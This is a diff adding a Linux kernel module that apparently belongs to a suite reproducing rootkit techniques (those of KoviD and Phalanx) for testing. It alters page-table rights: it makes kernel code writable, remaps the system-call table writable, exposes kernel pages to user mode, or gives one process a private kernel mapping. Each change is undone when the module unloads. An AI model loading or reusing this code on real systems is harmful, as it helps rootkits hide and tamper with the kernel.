@@ -1,0 +1,115 @@
+// SPDX-License-Identifier: GPL-2.0 OR Apache-2.0
+/*
+ * Technique: rights in page tables: a page of kernel code made writable (how=text), or mapped a second time for writing
+ * (how=text_alias; how=rodata_alias: read-only data), a page of the kernel that user mode may read (how=user), a mapping of the kernel's half that one process
+ * has for itself (how=own_half).
+ * Who: kits that avoid CR0.WP (KoviD's and Phalanx' kind); exploits.
+ * Changes: one entry of the kernel's page tables, or a new mapping. Undone when it is unloaded.
+ */
+#include "attack.h"
+
+#include <asm/pgtable.h>
+#include <linux/pid.h>
+#include <linux/sched/mm.h>
+#include <linux/sched/task.h>
+
+KERNEL_SYMBOL_SWAPOFF;
+KERNEL_SYMBOL(sys_call_table);
+KERNEL_SYMBOL(init_top_pgt);
+VARIANT("text");
+static int pid;
+module_param(pid, int, 0);
+
+static pte_t *entry, original;
+static void *mapping;
+
+static int change(unsigned long address, unsigned long bits)
+{
+	unsigned int level;
+
+	entry = lookup_address(address, &level);
+	if (!entry)
+		return -ENOENT;
+	original = *entry;
+	WRITE_ONCE(*entry, __pte(pte_val(original) | bits));
+	return 0;
+}
+
+static int map_again(unsigned long address)
+{
+	unsigned int level;
+	pte_t *pte = lookup_address(address, &level);
+	unsigned long frame;
+	struct page *page;
+
+	if (!pte)
+		return -ENOENT;
+	frame = pte_val(*pte) & PTE_PFN_MASK;
+	if (level == PG_LEVEL_2M)
+		frame = (frame & PMD_MASK) | (address & ~PMD_MASK & PAGE_MASK);
+	page = pfn_to_page(frame >> PAGE_SHIFT);
+	mapping = vmap(&page, 1, VM_MAP, PAGE_KERNEL);
+	return mapping ? 0 : -ENOMEM;
+}
+
+/* An entry of the highest table that the kernel leaves free. It leads to a table that is empty. */
+static int map_for_one(void)
+{
+	unsigned long *kernel = (void *)init_top_pgt_at, *own;
+	struct task_struct *task;
+	struct mm_struct *mm;
+	int i;
+
+	rcu_read_lock();
+	task = get_pid_task(find_vpid(pid), PIDTYPE_PID);
+	rcu_read_unlock();
+	if (!task || !kernel)
+		return -ESRCH;
+	mm = get_task_mm(task);
+	put_task_struct(task);
+	if (!mm)
+		return -ESRCH;
+	own = (unsigned long *)mm->pgd;
+	mmput(mm);
+	mapping = (void *)get_zeroed_page(GFP_KERNEL);
+	if (!mapping)
+		return -ENOMEM;
+	for (i = 300; i < 500; ++i) {
+		if (kernel[i] || own[i])
+			continue;
+		entry = (pte_t *)&own[i];
+		WRITE_ONCE(*entry, __pte(__pa(mapping) | _PAGE_PRESENT | _PAGE_RW));
+		return 0;
+	}
+	return -ESRCH;
+}
+
+static int __init start(void)
+{
+	if (!swapoff_at || !sys_call_table_at)
+		return -ENOENT;
+	if (HOW("text"))
+		return change(swapoff_at, _PAGE_RW);
+	if (HOW("text_alias"))
+		return map_again(swapoff_at);
+	if (HOW("rodata_alias"))
+		return map_again(sys_call_table_at);
+	if (HOW("own_half"))
+		return map_for_one();
+	mapping = vzalloc(PAGE_SIZE);
+	return mapping ? change((unsigned long)mapping, _PAGE_USER) : -ENOMEM;
+}
+
+static void __exit stop(void)
+{
+	if (entry)
+		WRITE_ONCE(*entry, original);
+	if (HOW("user"))
+		vfree(mapping);
+	else if (HOW("own_half"))
+		free_page((unsigned long)mapping);
+	else if (mapping)
+		vunmap(mapping);
+}
+
+ATTACK(start, stop);
